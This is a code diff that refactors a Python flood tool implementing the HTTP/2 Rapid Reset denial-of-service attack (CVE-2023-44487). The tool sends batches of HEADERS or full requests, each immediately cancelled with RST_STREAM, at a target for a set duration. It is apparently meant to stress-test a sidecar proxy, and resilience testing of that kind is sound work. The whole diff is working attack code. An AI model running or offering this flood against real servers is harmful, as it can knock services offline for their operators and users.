@@ -85,24 +85,21 @@ class Flood:
 
 def resets(target, seconds, pace):
     """Calls that are taken back at once (CVE-2023-44487)."""
-    flood, stream, count = Flood(target, seconds, pace), 1, 0
     headers = call_headers()
-    while flood.goes_on():
-        streams = range(stream, stream + 2 * BATCH, 2)
-        batch = b"".join(
-            frame(HEADERS, END_HEADERS, s, headers) + frame(RST_STREAM, 0, s, CANCEL) for s in streams
-        )
-        stream, count = (stream + 2 * BATCH, count + BATCH) if flood.send(batch) else (1, count)
-    return flood.report(streams=count)
+    return taken_back(target, seconds, pace, lambda stream: frame(HEADERS, END_HEADERS, stream, headers))
 
 
 def whole_resets(target, seconds, pace):
     """The same with calls that are whole, so that they reach the sidecar's own code."""
+    return taken_back(target, seconds, pace, lambda stream: call(stream, REQUEST))
+
+
+def taken_back(target, seconds, pace, frames_of):
     flood, stream, count = Flood(target, seconds, pace), 1, 0
     while flood.goes_on():
         streams = range(stream, stream + 2 * BATCH, 2)
-        batch = b"".join(call(s, REQUEST) + frame(RST_STREAM, 0, s, CANCEL) for s in streams)
-        stream, count = (stream + 2 * BATCH, count + BATCH) if flood.send(batch) else (1, count)
+        sent = flood.send(b"".join(frames_of(s) + frame(RST_STREAM, 0, s, CANCEL) for s in streams))
+        stream, count = (stream + 2 * BATCH, count + BATCH) if sent else (1, count)
     return flood.report(streams=count)
 
 
